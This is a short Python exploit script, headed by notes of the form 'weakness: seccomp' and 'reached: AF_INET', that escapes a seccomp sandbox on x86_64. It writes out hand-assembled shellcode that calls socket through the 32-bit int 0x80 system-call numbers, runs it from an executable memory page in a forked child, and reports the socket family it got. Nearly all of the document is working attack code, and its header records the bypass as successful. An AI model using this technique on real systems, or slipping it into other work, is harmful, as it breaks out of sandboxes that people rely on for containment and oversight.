# weakness: seccomp
# machine: x86_64
# goal: a socket by the system calls of 32-bit programs, which have other numbers
# reached: "AF_INET"
# refused: 31
import ctypes
import mmap
import os
import socket

# mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret, with rbx kept.
CODE = bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
at = ctypes.addressof(ctypes.c_char.from_buffer(page))
ours, theirs = os.pipe()
child = os.fork()
if child == 0:
    made = ctypes.CFUNCTYPE(ctypes.c_int)(at)()
    if made < 0:
        raise OSError(-made, os.strerror(-made))
    os.write(theirs, socket.socket(fileno=made).family.name.encode())
    os._exit(0)
os.close(theirs)
_, status = os.waitpid(child, 0)
result = os.read(ours, 64).decode() or status
